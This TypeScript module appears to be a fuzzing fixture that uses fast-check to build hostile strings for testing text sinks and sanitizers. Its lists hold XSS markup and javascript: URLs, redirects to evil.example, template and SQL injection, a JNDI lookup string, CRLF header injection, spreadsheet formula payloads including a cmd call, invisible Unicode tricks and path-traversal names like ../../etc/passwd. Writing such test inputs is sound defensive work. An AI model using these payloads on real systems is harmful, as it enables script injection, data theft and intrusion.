import fc from "fast-check";

/** Script of each attack, which runs if a sink interprets the text. */
const RUN = "globalThis.ran=1";

const MARKUP = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</title></style></textarea></template><img src=x onerror=${RUN}>`,
  `"><img src=x onerror="${RUN}">`,
  `'><svg/onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<math href="javascript:${RUN}">x</math>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.ran=1</script>">`,
  `<embed src="javascript:${RUN}">`,
  `<p/onclick=${RUN} a=b" style="position:fixed;inset:0">x`,
  `<a href="javascript:${RUN}" class="fixed inset-0">x</a>`,
  `<a href="java&#x09;script:${RUN}">x</a>`,
  `<form action="https://evil.example/"><button formaction="javascript:${RUN}">x</button></form>`,
  `<base href="https://evil.example/"><link rel=stylesheet href="//evil.example/x.css">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<details open ontoggle=${RUN}><input autofocus onfocus=${RUN}>`,
  `<style>@import "//evil.example/x.css";*{background:url(//evil.example/x)}</style>`,
  `<div style="background:url(https://evil.example/x);width:expression(${RUN})">x</div>`,
  `<template><script>${RUN}</script></template><noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>--><![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<audio src=x onerror=${RUN}><video><source onerror=${RUN}></video>`,
  `<constructor><__proto__ a=1><o:p onclick=${RUN}>`,
  "&lt;script&gt;&#x67;&#108;&colon;&NewLine;&amp;amp;&nbsp;&#0;&#xD800;&#x110000;",
];
const ADDRESSES = [
  `javascript:${RUN}`,
  ` \u0001JaVaScRiPt:${RUN}`,
  `java\nscript:${RUN}`,
  `javascript\t:${RUN}//https://example.com`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  `blob:https://example.com/1`,
  `file:///etc/passwd`,
  `//evil.example/\\..\\`,
  `/\\evil.example`,
  `https:evil.example`,
  `https://example.com@evil.example/#<img src=x>`,
  `[x](javascript:${RUN}) [y](//evil.example) [z](/\\evil.example) ![i](https://evil.example/x)`,
  `mailto:a@b.c?bcc=everybody&body=%0d%0a`,
  `../../../../api/auth/logout`,
];
const TEMPLATES = [
  "{{constructor.constructor('globalThis.ran=1')()}}",
  "${globalThis.ran=1}",
  "<%= globalThis.ran=1 %>",
  "#{7*7}[[${7*7}]]{{7*7}}",
  "'; DROP TABLE banks; --",
  "%00%0d%0aSet-Cookie:a=b",
  "%s%n%x${jndi:ldap://evil.example/a}",
];
const UNSEEN = [
  "\u202Egnp.exe\u202C",
  "\u2066\u202Efdp\u2069",
  "a\u200Bb\u200Cc\u200Dd\uFEFF",
  "\u00AD\u2060\u180E\u3164",
  "\uD800",
  "x\uDFFFy",
  "\uDBFF\uDBFF",
  "\u0000\u0007\u001B[31m\u007F\u0085",
  "e\u0301".repeat(60),
  "\u0C1C\u0C4D\u0C1E\u200C\u0C3E",
  "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿",
  "مرحبا‏ (abc) ١٢٣",
];
const FORMULAS = ['=HYPERLINK("//evil.example","x")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "＝1+1", "\t=1"];
const SHAPES = [
  "W".repeat(3000),
  "a ".repeat(1000),
  "a\r\nb\n\n\n- c\n1. d\n## e\n**f** `g`",
  " ",
  "\n",
  "\t",
  "",
  "null",
];
const NAMES = [
  "../../etc/passwd",
  "CON.txt",
  "a/b\\c:d*e?f|g",
  ".htaccess",
  "x.csv.exe",
  "x.exe ",
  "...",
  "a\u202Evsc.exe",
];

/** An attack as it is, two combined, or one around or inside a text of any characters. */
const hostile = ((): fc.Arbitrary<string> => {
  const known = fc.constantFrom(
    ...[MARKUP, ADDRESSES, TEMPLATES, UNSEEN, FORMULAS, SHAPES, NAMES].flatMap((texts) => texts),
  );
  const any = fc.oneof(fc.string({ unit: "binary", maxLength: 20 }), fc.string({ maxLength: 20 }));
  const cut = fc.tuple(known, known, fc.double({ min: 0, max: 1, noNaN: true })).map(([outer, inner, at]) => {
    const place = Math.floor(outer.length * at);
    return outer.slice(0, place) + inner + outer.slice(place);
  });
  return fc.oneof(
    known,
    cut,
    fc.tuple(any, known, any).map((parts) => parts.join("")),
    // Includes lone surrogates, which are invalid in text.
    fc.array(fc.nat(0xffff), { maxLength: 20 }).map((units) => String.fromCharCode(...units)),
  );
})();

/**
 * Deterministic hostile texts: markup, event handlers, script URLs, templates, direction marks, zero-width characters,
 * lone surrogates, long words, formulas, file names. They set `globalThis.ran` if they run.
 */
export const hostileTexts = (count: number): string[] => fc.sample(hostile, { seed: 20_261_125, numRuns: count });
